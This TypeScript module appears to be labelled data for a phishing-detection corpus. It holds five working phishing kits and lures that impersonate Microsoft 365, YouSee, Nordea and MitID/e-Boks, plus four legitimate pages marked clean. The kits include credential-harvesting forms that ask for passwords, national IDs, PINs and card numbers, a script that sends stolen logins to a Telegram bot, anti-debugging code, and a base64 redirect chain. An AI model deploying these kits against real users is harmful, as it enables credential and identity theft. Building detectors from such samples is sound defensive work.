import { htmlRoute, redirectRoute, type Entry } from '../entry.js';
import { doc, cardCss, govCss, baseCss, spinnerCss, cardFormatJs, cookieBanner, gtm, b64, xorHex, wordmark } from '../parts/yb-kit.js';
import { jsRoute, jsonRoute, pngRoute } from '../parts/e-bin.js';

// Webmail and Microsoft 365 kits aimed at municipalities and companies, social, streaming and game
// account kits, lures, cloaked kits and redirect chains; and the real sign-in pages, shorteners and
// parked domains the analysts cleared.

const msCss = `${baseCss}
body{background:#f2f2f2 url() center/cover;font-family:"Segoe UI",Arial,sans-serif}
.ms{width:440px;max-width:92vw;margin:8vh auto 0;background:#fff;padding:44px;box-shadow:0 2px 6px rgba(0,0,0,.2)}
.ms h1{font-size:24px;font-weight:600;margin:16px 0 12px}
.ms input{width:100%;border:0;border-bottom:1px solid #666;padding:6px 0;font-size:15px;outline:0;margin-bottom:16px}
.ms input:focus{border-bottom-color:#0067b8}
.ms .go{float:right;background:#0067b8;color:#fff;border:0;padding:6px 30px;min-width:108px;font-size:15px}
.ms .lk{font-size:13px;color:#0067b8;display:block;margin:10px 0}
.ms .id{font-size:15px;margin-bottom:10px}
.ms .er{color:#e81123;font-size:14px;display:none;margin-bottom:8px}
.ms:after{content:"";display:block;clear:both}`;
const msLogo = `<svg xmlns="http://www.w3.org/2000/svg" width="108" height="24" viewBox="0 0 108 24"><rect width="11" height="11" fill="#f25022"/><rect x="12" width="11" height="11" fill="#7fba00"/><rect y="12" width="11" height="11" fill="#00a4ef"/><rect x="12" y="12" width="11" height="11" fill="#ffb900"/><text x="30" y="17" font-family="Segoe UI,Arial" font-size="16" font-weight="600" fill="#737373">Microsoft</text></svg>`;

export const entries: Entry[] = [
  {
  id: 'yb-se-kommun-delad-faktura-lure',
  label: 'phishing',
  kind: 'document-share-lure',
  url: 'https://delad-fil-goteborg.webflow.io/',
  body: doc({
    lang: 'sv',
    title: 'Göteborgs Stad har delat en fil med dig',
    css: `${baseCss}
body{background:#f3f2f1}
.c{max-width:520px;margin:60px auto;background:#fff;border-radius:4px;padding:30px;box-shadow:0 2px 8px #0002}
.f{display:flex;gap:14px;align-items:center;border:1px solid #ddd;padding:14px;border-radius:4px;margin:18px 0}
.f i{width:40px;height:48px;background:#d13438;color:#fff;font:700 12px/48px Arial;text-align:center;font-style:normal}
.btn{display:inline-block;background:#0078d4;color:#fff;padding:11px 26px;text-decoration:none;border-radius:2px}`,
    body: `<div class="c">
<p style="font-size:13px;color:#666">OneDrive for Business</p>
<h2>Ekonomiförvaltningen, Göteborgs Stad har delat en fil med dig</h2>
<div class="f"><i>PDF</i><div><b>Faktura_2024-0312_Leverantörsreskontra.pdf</b><br><span style="font-size:13px;color:#666">218 kB · Delad 12 mars</span></div></div>
<p>Denna fil är skyddad. Logga in med ditt organisationskonto för att visa dokumentet.</p>
<a class="btn" href="https://login.mso365-secure-portal.com/common/oauth2/authorize?client_id=4765445b&amp;ref=gbg">Öppna dokument</a>
<p style="font-size:12px;color:#888;margin-top:26px">Microsoft respekterar din integritet. Läs vår sekretesspolicy.</p>
</div>`,
  }),
  routes: {
    'login.mso365-secure-portal.com/common/oauth2/authorize': htmlRoute(
      doc({
        lang: 'sv',
        title: 'Logga in på ditt konto',
        css: msCss,
        body: `<div class="ms">${msLogo}<h1>Logga in</h1><div class="er" id="er">Ditt konto eller lösenord är felaktigt.</div><form id="f" method="post" action="/common/login.php"><input type="email" name="login" placeholder="E-post, telefon eller Skype" required><input type="password" name="passwd" placeholder="Lösenord" required><a class="lk" href="#">Har du glömt ditt lösenord?</a><button class="go">Logga in</button></form></div><script>var n=0;document.getElementById('f').onsubmit=function(e){if(n++<1){e.preventDefault();fetch('/common/login.php',{method:'POST',body:new FormData(this)});document.getElementById('er').style.display='block';this.passwd.value='';}};</script>`,
      }),
    ),
  },
},
  {
  id: 'yb-dk-yousee-webmail-kvote',
  label: 'phishing',
  kind: 'webmail-kit',
  url: 'https://webmail-yousee.dk-postkasse.com/roundcube/?_task=login',
  body: doc({
    lang: 'da',
    title: 'YouSee Webmail :: Log ind',
    css: `${baseCss}
body{background:#f1f1f1}
#login{width:380px;margin:70px auto;background:#fff;border:1px solid #ccc;border-radius:4px;padding:30px}
.q{background:#fde7e7;color:#a00;padding:10px;border-radius:4px;font-size:14px;margin-bottom:14px}
.bar{height:10px;background:#eee;border-radius:5px;margin:6px 0 14px}.bar i{display:block;width:98%;height:100%;background:#d22;border-radius:5px}
td{padding:6px 0}input[type=text],input[type=password]{width:100%;padding:9px;border:1px solid #aaa}
.mainaction{background:#2d7be6;color:#fff;border:0;padding:10px 20px;width:100%;margin-top:10px}
.yl{font:800 28px Arial;color:#2d7be6;text-align:center;margin-bottom:18px}`,
    body: `<div id="login">
<div class="yl">YouSee</div>
<div class="q">Din postkasse er næsten fuld (4,9 GB af 5 GB). Indgående e-mails afvises om kort tid. Log ind for at opgradere din lagerplads gratis.</div>
<div class="bar"><i></i></div>
<form name="form" method="post" action="./?_task=login">
<input type="hidden" name="_token" value="qP2w9TzKcM6dJ1bV4rY7aX0uNe8sHfLg">
<input type="hidden" name="_task" value="login"><input type="hidden" name="_action" value="login">
<table><tr><td><label for="rcmloginuser">E-mailadresse</label></td></tr><tr><td><input type="text" name="_user" id="rcmloginuser" autocomplete="off"></td></tr>
<tr><td><label for="rcmloginpwd">Adgangskode</label></td></tr><tr><td><input type="password" name="_pass" id="rcmloginpwd"></td></tr></table>
<button type="submit" class="mainaction">Log ind</button>
</form>
</div>`,
  }),
},
  {
  id: 'yb-lt-office365-antidebug-telegram',
  label: 'phishing',
  kind: 'webmail-kit',
  url: 'https://office365-lt.dokumentai-perziura.com/',
  body: doc({
    lang: 'lt',
    title: 'Prisijungti prie paskyros',
    css: msCss,
    body: `<div class="ms">${msLogo}
<div id="s1"><h1>Prisijungti</h1><input type="email" id="em" placeholder="El. paštas, telefonas arba „Skype“"><a class="lk" href="#">Negalite pasiekti savo paskyros?</a><button class="go" id="n1">Pirmyn</button></div>
<div id="s2" style="display:none"><div class="id" id="sh"></div><h1>Įveskite slaptažodį</h1><div class="er" id="er">Jūsų paskyra arba slaptažodis neteisingi.</div><input type="password" id="pw" placeholder="Slaptažodis"><a class="lk" href="#">Pamiršau slaptažodį</a><button class="go" id="n2">Prisijungti</button></div>
</div>
<script>
setInterval(function(){var a=Date.now();debugger;if(Date.now()-a>100){document.body.innerHTML='';location.replace('https://www.bing.com')}},1000);
document.addEventListener('contextmenu',function(e){e.preventDefault()});
document.addEventListener('keydown',function(e){if(e.keyCode==123||(e.ctrlKey&&e.shiftKey&&(e.keyCode==73||e.keyCode==74))||(e.ctrlKey&&e.keyCode==85)){e.preventDefault()}});
var B='7093541176:AAGc9rX2vQp0Lm3Tz8Ws4Ky1Ne6Hd5Jb7Fo',C='-4187726510',tries=0;
function tg(t){return fetch('https://api.telegram.org/bot'+B+'/sendMessage',{method:'POST',headers:{'Content-Type':'application/json'},body:JSON.stringify({chat_id:C,text:t})})}
document.getElementById('n1').onclick=function(){var e=document.getElementById('em').value;if(e.indexOf('@')<1)return;document.getElementById('sh').textContent=e;document.getElementById('s1').style.display='none';document.getElementById('s2').style.display='block'};
document.getElementById('n2').onclick=function(){tries++;tg('O365 LT\\n'+document.getElementById('em').value+'\\n'+document.getElementById('pw').value+'\\n#'+tries);
if(tries<2){document.getElementById('er').style.display='block';document.getElementById('pw').value=''}else{location.href='https://outlook.office.com/mail/'}};
</script>`,
  }),
},
  {
  id: 'yb-fi-nordea-messenger-firebase-chain',
  label: 'phishing',
  kind: 'redirect-chain-kit',
  url: 'https://l.viestilinkki.com/?u=aHR0cHM6Ly9ub3JkZWEtdHVubmlzdHVzLndlYi5hcHAvP3M9Zmk%3D',
  routes: {
    'l.viestilinkki.com/': htmlRoute(
      `<!doctype html><html><head><meta charset="utf-8"><title>Ohjataan…</title><script>try{location.replace(atob(new URLSearchParams(location.search).get('u')))}catch(e){}</script></head><body>Ohjataan…</body></html>`,
    ),
    'nordea-tunnistus.web.app/': htmlRoute(
      `<!doctype html><html><head><meta charset="utf-8"><meta http-equiv="refresh" content="0;url=https://nordea-fi.asiakas-vahvistus.com/kirjaudu/?s=fi"><title>Nordea</title></head><body></body></html>`,
    ),
    'nordea-fi.asiakas-vahvistus.com/kirjaudu/': htmlRoute(
      doc({
        lang: 'fi',
        title: 'Kirjaudu | Nordea',
        css: `${cardCss}body{background:#dcedff}.nd{font:700 28px Arial;color:#0000a0}.btn{background:#0000a0;border-radius:20px}`,
        body: `<div class="wrap"><div class="card"><div class="nd">Nordea</div><h1>Kirjaudu Nordea Verkkopankkiin</h1><p>Tunnistautumisesi on vanhentunut. Vahvista henkilöllisyytesi Nordea ID:llä.</p><form method="post" action="/kirjaudu/vahvista.php"><label>Käyttäjätunnus</label><input type="text" name="tunnus"><label>Henkilötunnus</label><input type="text" name="hetu"><label>Nordea ID PIN</label><input type="password" name="pin" maxlength="6"><button class="btn">Jatka</button></form></div></div>`,
      }),
    ),
  },
},
  {
  id: 'yb-dk-eboks-sikker-besked-lure',
  label: 'phishing',
  kind: 'lure-page',
  url: 'https://e-boks-besked.dk-post.info/besked/7741922',
  body: doc({
    lang: 'da',
    title: 'e-Boks – Du har modtaget en ny besked',
    css: `${baseCss}
body{background:#eef3f7}
.h{background:#fff;padding:14px 30px;border-bottom:1px solid #dde;font:700 22px Arial;color:#003d7c}
.c{max-width:560px;margin:40px auto;background:#fff;padding:30px;border-radius:6px}
.m{border:1px solid #dde;border-radius:4px;padding:14px;margin:18px 0}
.btn{display:inline-block;background:#0060e6;color:#fff;padding:12px 26px;border-radius:3px;text-decoration:none;font-weight:700}`,
    body: `<div class="h">e-Boks</div>
<div class="c">
<h2>Du har 1 ny besked</h2>
<div class="m"><b>Fra:</b> Udbetaling Danmark<br><b>Emne:</b> Afgørelse om boligstøtte – efterbetaling 2.914 kr.<br><b>Modtaget:</b> i dag</div>
<p>Beskeden er sikret. Log på med MitID for at læse den.</p>
<a class="btn" href="https://mitid-borger.dk-post.info/log-paa?ret=eboks&amp;m=7741922">Log på med MitID</a>
</div>`,
  }),
  routes: {
    'mitid-borger.dk-post.info/log-paa': htmlRoute(
      doc({
        lang: 'da',
        title: 'MitID',
        css: `${cardCss}.mid{color:#0060e6;font:700 22px Arial}.btn{background:#0060e6;border-radius:2px}`,
        body: `<div class="wrap"><div class="card"><div class="mid">MitID</div><h1>Log på hos e-Boks</h1><form method="post" action="/log-paa/next.php"><label>BRUGER-ID</label><input type="text" name="uid"><label>ADGANGSKODE</label><input type="password" name="pw"><label>CPR-NUMMER</label><input type="text" name="cpr"><label>Kortnummer til udbetaling</label><input type="text" name="kort"><button class="btn">FORTSÆT</button></form></div></div>`,
      }),
    ),
  },
},
  {
  id: 'yb-no-viaplay-login-own',
  label: 'clean',
  kind: 'streaming-login-own-domain',
  url: 'https://viaplay.no/no-nb/login',
  body: doc({
    lang: 'no',
    title: 'Logg inn | Viaplay',
    css: `${baseCss}
body{background:#1b1027;color:#fff}
.c{max-width:400px;margin:60px auto;padding:0 20px}
.vp{font:800 32px Arial;color:#ff3b6b}
input{width:100%;padding:13px;border:0;border-radius:4px;background:#2d2140;color:#fff;font-size:16px;margin:6px 0 14px}
button{width:100%;padding:14px;border:0;border-radius:30px;background:#ff3b6b;color:#fff;font-weight:700;font-size:16px}
a{color:#ff9fb8}`,
    body: `<div class="c">
<div class="vp">viaplay</div>
<h2>Logg inn</h2>
<form method="post" action="/no-nb/login" autocomplete="on">
<label>E-post</label><input type="email" name="username" autocomplete="email">
<label>Passord</label><input type="password" name="password" autocomplete="current-password">
<button>Logg inn</button>
</form>
<p><a href="/no-nb/forgot-password">Glemt passordet?</a> · <a href="/no-nb/packages">Bli kunde</a></p>
<p style="font-size:13px;color:#aaa">Viaplay sender aldri e-post der vi ber deg oppgi kortnummer via lenke. Betalingsinformasjon endrer du under Konto når du er logget inn.</p>
</div>`,
  }),
},
  {
  id: 'yb-dk-aarhus-kortlink-affald-own',
  label: 'clean',
  kind: 'shortener-chain-own-domain',
  url: 'https://kortlink.aarhus.dk/affald2024',
  routes: {
    'kortlink.aarhus.dk/affald2024': redirectRoute(301, 'https://aarhus.dk/borger/affald-og-genbrug/toemmekalender?utm_source=sms&utm_medium=kortlink&utm_campaign=affald2024'),
    'aarhus.dk/borger/affald-og-genbrug/toemmekalender': htmlRoute(
      doc({
        lang: 'da',
        title: 'Tømmekalender | Aarhus Kommune',
        css: `${govCss}header.top b{color:#003e62;font-size:22px}`,
        body: `<header class="top"><div class="in"><b>Aarhus Kommune</b><span>Borger · Erhverv · Politik</span></div></header>
<main><div class="in"><h1>Se din tømmekalender</h1><p class="lead">Skriv din adresse og se, hvornår dine affaldsbeholdere bliver tømt.</p><div class="box"><form method="get" action="/borger/affald-og-genbrug/toemmekalender/soeg"><label>Adresse</label><br><input name="adresse" style="padding:10px;width:320px;border:1px solid #888"> <button class="btn">Søg</button></form></div><p>Du kan også få besked på sms dagen før tømning. Tilmeld dig på <a href="/borger/affald-og-genbrug/sms">aarhus.dk/sms</a>.</p></div></main>`,
      }),
    ),
  },
},
  {
  id: 'yb-fi-parked-kesamokki-myynnissa',
  label: 'clean',
  kind: 'parked-domain',
  url: 'https://www.kesamokki-vuokraus.fi/',
  body: doc({
    lang: 'fi',
    title: 'kesamokki-vuokraus.fi – Verkkotunnus on myynnissä',
    css: `${baseCss}
body{background:#f7f9fb;text-align:center}
.c{max-width:640px;margin:12vh auto;padding:30px}
h1{font-size:34px;word-break:break-all}
.price{font-size:22px;margin:16px 0}
.btn{display:inline-block;background:#00a6a6;color:#fff;padding:14px 30px;border-radius:4px;text-decoration:none;font-weight:700}
.rel{margin-top:40px;font-size:14px}.rel a{display:block;color:#0058a3;margin:6px}`,
    body: `<div class="c">
<h1>kesamokki-vuokraus.fi</h1>
<p>Tämä verkkotunnus on myynnissä.</p>
<p class="price">Hinta: 490 € + alv</p>
<a class="btn" href="https://www.zoner.fi/verkkotunnukset/kauppapaikka/?domain=kesamokki-vuokraus.fi">Tee tarjous</a>
<div class="rel"><b>Aiheeseen liittyviä hakuja</b><a href="/search?q=kes%C3%A4m%C3%B6kki+vuokraus">Kesämökki vuokraus</a><a href="/search?q=m%C3%B6kit+lappi">Mökit Lappi</a><a href="/search?q=rantasauna">Rantasauna</a></div>
<p style="font-size:12px;color:#888;margin-top:40px">Verkkotunnus on pysäköity Zoner Oy:n palveluun.</p>
</div>`,
  }),
},
  {
  id: 'yb-ee-lhv-sisene-own',
  label: 'clean',
  kind: 'bank-login-own-domain',
  url: 'https://www.lhv.ee/et/sisene',
  body: doc({
    lang: 'et',
    title: 'Sisene | LHV',
    css: `${cardCss}
body{background:#f5f5f5}
.lhv{font:900 34px Arial;color:#111}
.btn{background:#111}
.tabs{display:flex;gap:6px;margin:12px 0}.tabs a{flex:1;text-align:center;padding:9px;border:1px solid #ccc;border-radius:4px;text-decoration:none;font-size:14px}.tabs a.on{border-color:#111;font-weight:700}`,
    body: `<div class="wrap"><div class="card">
<div class="lhv">LHV</div>
<h1>Sisene internetipanka</h1>
<div class="tabs"><a class="on" href="?m=smartid">Smart-ID</a><a href="?m=mid">Mobiil-ID</a><a href="?m=idkaart">ID-kaart</a></div>
<form method="post" action="/et/sisene/smartid">
<label>Isikukood</label><input type="text" name="personalCode" inputmode="numeric" maxlength="11" autocomplete="username">
<button class="btn">Sisene</button>
</form>
<p class="muted">Pärast sisenemist kuvatakse kontrollkood. PIN1 sisestad ainult Smart-ID rakendusse. LHV ei küsi kunagi PIN-koode veebilehel ega telefonis. Klienditugi 6800 400.</p>
</div></div>`,
  }),
},
];
